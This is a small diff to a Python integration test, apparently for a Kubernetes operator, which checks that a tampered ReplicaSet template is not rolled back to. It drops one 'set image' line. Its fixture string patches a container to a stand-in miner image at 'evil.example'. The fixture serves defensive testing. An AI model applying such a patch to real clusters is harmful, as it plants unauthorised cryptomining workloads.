@@ -145,7 +145,6 @@ def test_a_planted_template_is_not_rolled_back_to(operator: OperatorProcess, sce
     scene.app()
     (replicaset,) = json.loads(scene.kubectl("get", "rs", "-o", "json"))["items"]
     planted = '{"spec":{"template":{"spec":{"containers":[{"name":"checkout","image":"evil.example/miner:1"}]}}}}'
-    scene.cluster.kubectl("-n", scene.namespace, "set", "image", "deployment/checkout", f"checkout={BAD}")
     scene.release()
     scene.kubectl("patch", "rs", replicaset["metadata"]["name"], "--type=strategic", "-p", planted)
     incident = until(lambda: next(iter(scene.incidents()), None), "an Incident")
